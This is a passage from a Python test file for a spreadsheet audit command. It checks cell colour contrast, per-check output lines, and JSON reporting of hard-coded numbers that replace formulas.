        (Font(color="FF1A1A1A"), PatternFill("solid", start_color="FF1F3864"), False),
    ],
)
def test_contrast_of_cells(tmp_path, font, fill, passes):
    book = openpyxl.Workbook()
    book.active["A1"] = "text"
    if font:
        book.active["A1"].font = font
    if fill:
        book.active["A1"].fill = fill
    book.save(tmp_path / "t.xlsx")
    assert ("contrast" not in failing(tmp_path / "t.xlsx")) is passes


# --- the command -----------------------------------------------------------------------------------------------------


def test_the_command_prints_a_line_for_each_check(vram, small_planner, tmp_path):
    (tmp_path / "small.xlsx").write_bytes(small_planner)
    status, out, err = vram("audit", tmp_path / "small.xlsx")
    assert (status, err) == (0, "")
    assert len(re.findall(r"^  ✓ ", out, re.MULTILINE)) == len(CHECKS)
    assert re.search(
        r"^Longest chain of precedents: \d+ cells, from \w+!\w+ to \w+ \('?[\w ]+'?!\w+\)\. ", out, re.MULTILINE
    )


def test_the_command_names_places_and_fails(vram, tmp_path):
    x = Xlsx(build_small("zh"))
    x.number("方案", "N9", 140)
    (tmp_path / "t.xlsx").write_bytes(x.content)
    status, out, err = vram("audit", tmp_path / "t.xlsx")
    assert (status, err) == (1, "")
    assert "  ✗ No number replaces a formula: 1 problem: 方案!N9 (140)\n" in out
    assert out.endswith(f"1 of {len(CHECKS)} checks fail.\n")


def test_json(vram, small_planner, tmp_path):
    x = Xlsx(small_planner)
    x.number("Scenarios", f"{WEIGHTS}9", 140)
    (tmp_path / "t.xlsx").write_bytes(x.content)
    status, out, err = vram("audit", tmp_path / "t.xlsx", "--json")
    assert (status, err) == (1, "")
    answer = json.loads(out)
    assert answer["passed"] is False
    assert [check["check"] for check in answer["checks"]] == [check.key for check in CHECKS]
    (failed,) = [check for check in answer["checks"] if not check["passed"]]
    assert failed == {
        "check": "hard_coded",
        "kind": "integrity",
        "claim": "No number replaces a formula",
        "passed": False,
        "faults": 1,
        "places": [{"place": f"Scenarios!{WEIGHTS}9", "detail": "140"}],
    }
    (tmp_path / "small.xlsx").write_bytes(small_planner)
    status, out, _ = vram("audit", tmp_path / "small.xlsx", "--json", "--no-house")
    assert status == 0
    assert {check["kind"] for check in json.loads(out)["checks"]} == {"safety", "integrity"}
